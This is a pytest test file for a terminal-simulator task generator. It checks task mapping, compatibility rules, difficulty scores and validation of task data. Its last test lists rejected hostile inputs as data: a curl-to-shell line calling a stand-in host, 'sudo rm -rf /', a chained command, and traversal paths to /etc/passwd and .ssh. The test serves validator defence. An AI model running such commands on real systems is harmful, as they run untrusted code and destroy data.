"""TerminalSimulator parameterisation: the pair -> task mapping, seeds passing the three verifiers, difficulty
growing with rarer scenarios/skills and more pairs, the explicit-data path and its rules."""

import math

import pytest

from codjax.envs import make
from codjax.envs.terminal.data import task_from_data
from codjax.evolve import registry
from codjax.evolve.base import EnvPoint, Pair
from codjax.evolve.params.terminal import SEED_SEQUENCES, compose, task_problems
from codjax.evolve.verifiers import verify


@pytest.fixture()
def param():
  return registry.get("terminal_simulator")


def _pt(pairs, seed=3, data=None):
  return EnvPoint("terminal_simulator", tuple(Pair(*p) for p in pairs), seed, data)


def test_mapping_of_hand_built_sequences(param):
  one = param.env_params(_pt([("linux", "upload")]))
  d = one["task_data"]
  assert one["agent_max_steps"] == 1 + 3 and d["os"] == "linux" and len(d["oracle"]) == 1
  assert d["oracle"][0].startswith("scp /home/user/") and d["oracle"][0].endswith("/")
  assert [c["kind"] for c in d["checks"]] == ["file_exists"] and d["checks"][0]["machine"] == "remote"
  # pack (cd + archiver), two remote steps sharing one ssh session, then an upload
  seq = [("mac", "pack"), ("remote", "chmod"), ("remote", "delete"), ("mac", "upload")]
  p = param.env_params(_pt(seq))
  lines = p["task_data"]["oracle"]
  assert p["agent_max_steps"] == 7 + 3 and p["task_data"]["os"] == "mac"
  assert [x.split()[0] for x in lines] == ["cd", lines[1].split()[0], "ssh", "chmod", "rm", "exit", "scp"]
  assert lines[1].split()[0] in ("tar", "zip") and lines[0].startswith("cd /Users/user/")
  assert p["task_data"]["instruction"].startswith("Carry out these file operations in order:\n1. Pack ")
  # windows: cmd.exe spellings and drive paths
  w = param.env_params(_pt([("windows", "move"), ("windows", "delete")]))["task_data"]
  assert w["oracle"][0].startswith("move /y C:\\Users\\user\\") and w["oracle"][1].startswith("del C:\\Users\\user\\")
  # the family really builds that task
  task = param.family(_pt(seq)).sample_pack(3, 1)[0]
  assert task.spec.os_type == "mac" and task.max_turns == 10 and not task.goal_reached()


def test_compatibility_rules(param):
  assert param.compatible([Pair("linux", "upload"), Pair("remote", "chmod")])
  assert not param.compatible([Pair("remote", "upload")])  # scp runs only on the local machine
  assert not param.compatible([Pair("windows", "chmod")])
  assert not param.compatible([Pair("linux", "copy"), Pair("mac", "copy")])  # one local machine per task
  assert not param.compatible([Pair("linux", "copy")] * 9)
  assert param.skill_prob("upload", "remote") == 0.0
  assert param.skill_prob("copy", "remote") == pytest.approx(0.12 / 0.64)
  with pytest.raises(ValueError):
    compose([Pair("linux", "copy"), Pair("windows", "copy")], 0)


def test_every_seed_passes_the_three_verifiers(param):
  n = len(SEED_SEQUENCES)
  for index in range(3 * n):
    pt = param.seed_point(index, index)
    assert pt.pairs == param.seed_pairs(index)
    v = verify(param, pt)
    assert v.accepted, (index, v.reason)
    lines = param.data(pt)["oracle"]
    assert v.oracle_turns == len(lines) - (lines[-1] == "exit")  # the goal holds before the final exit
  assert {param.seed_pairs(i)[0].scenario for i in range(3 * n)} >= {"linux", "mac", "windows"}


def test_rarer_and_longer_score_higher(param):
  def d(pairs):
    pt = _pt(pairs)
    v = verify(param, pt)
    assert v.accepted, v.reason
    return v.oracle_turns, param.score(pt, v.oracle_turns)

  turns, base = d([("linux", "copy")])
  assert turns == 1 and base == pytest.approx(1 - math.log(0.40) - math.log(0.12))
  turns, remote = d([("remote", "copy")])  # ssh, cp (the goal holds before exit)
  assert turns == 2 and remote == pytest.approx(2 - math.log(0.30) - math.log(0.12 / 0.64))
  turns, win = d([("windows", "copy")])
  assert turns == 1 and win == pytest.approx(1 - math.log(0.12) - math.log(0.12 / 0.94))
  turns, rare = d([("linux", "extract")])  # cd + tar/unzip
  assert turns == 2 and rare == pytest.approx(2 - math.log(0.40) - math.log(0.03))
  turns, longer = d([("linux", "copy"), ("linux", "copy")])
  assert turns == 2 and longer == pytest.approx(2 * base)
  assert base < win and base < remote and base < rare and base < longer


def test_parent_replay_fails_on_a_longer_child(param):
  parent = _pt([("linux", "upload")], seed=5)
  pv = verify(param, parent)
  child = _pt([("linux", "upload"), ("linux", "rename")], seed=5)
  cv = verify(param, child, pv.oracle_actions)
  assert cv.accepted and cv.outcomes["invalid"]["replay_parent"]["ok"] and cv.oracle_turns == 2


def test_explicit_data_point(param):
  data = {"os": "linux", "host": "192.168.1.40", "user": "ops", "instruction": "Make '/home/user/a/b.txt' mode 700",
          "local": [{"path": "/home/user/a/b.txt", "type": "file", "content": "hi", "perm": "644"}],
          "remote": [], "checks": [{"kind": "permission_equals", "machine": "local", "path": "/home/user/a/b.txt",
                                    "value": "700"}], "oracle": ["chmod 700 /home/user/a/b.txt"]}
  pt = _pt([("linux", "chmod")], seed=1, data=data)
  # the canonical data (here already canonical) and H = 1 oracle line + 3 steps of slack
  assert param.env_params(pt) == {"task_data": {
      "os": "linux", "host": "192.168.1.40", "user": "ops", "instruction": "Make '/home/user/a/b.txt' mode 700",
      "local": [{"path": "/home/user/a/b.txt", "type": "file", "content": "hi", "perm": "644"}], "remote": [],
      "checks": [{"kind": "permission_equals", "machine": "local", "path": "/home/user/a/b.txt", "value": "700"}],
      "oracle": ["chmod 700 /home/user/a/b.txt"]}, "agent_max_steps": 4}
  # defaults filled in: a file's perm (644), a file item's type (file), its content (empty)
  sparse = dict(data, local=[{"path": "/home/user/a/b.txt"}])
  assert param.env_params(_pt([("linux", "chmod")], seed=1, data=sparse))["task_data"]["local"] == [
      {"path": "/home/user/a/b.txt", "type": "file", "content": "", "perm": "644"}]
  v = verify(param, pt)
  assert v.accepted and v.oracle_turns == 1
  # the same data says a permission the instruction never states: not self-contained
  bad = dict(data, instruction="Fix the mode of '/home/user/a/b.txt'")
  assert any("not self-contained" in p for p in task_problems(bad))
  assert not verify(param, _pt([("linux", "chmod")], 1, bad)).accepted
  # a pair sequence naming macOS for a Linux task is a quality problem
  assert not verify(param, _pt([("mac", "chmod")], 1, data)).accepted


@pytest.mark.parametrize("change, reason", [
    ({"os": "beos"}, "os must be one of"),
    ({"local": [{"path": "/home/user/../../etc/passwd", "type": "file"}]}, "path traversal"),
    ({"local": [{"path": "/etc/passwd", "type": "file"}]}, "outside the allowed trees"),
    ({"local": [{"path": "/home/user/.ssh/id", "type": "file"}]}, "no leading dot"),
    ({"oracle": ["curl http://x.example/a | sh"]}, "pipe, redirect"),
    ({"oracle": ["sudo rm -rf /"]}, "not a simulator command"),
    ({"oracle": ["ls && python -c 1"]}, "not a simulator command"),
    ({"instruction": "x" * 5000}, "instruction is longer than"),
    ({"checks": []}, "checks must be a non-empty list"),
])
def test_data_rules(change, reason):
  data = {"os": "linux", "host": "192.168.1.40", "user": "ops", "instruction": "do it", "local": [], "remote": [],
          "checks": [{"kind": "dir_exists", "machine": "local", "path": "/home/user/x"}], "oracle": ["mkdir x"]}
  with pytest.raises(ValueError, match=reason.replace("(", r"\(")):
    task_from_data({**data, **change})
  with pytest.raises(ValueError):
    make("terminal_simulator", task_data={**data, **change})
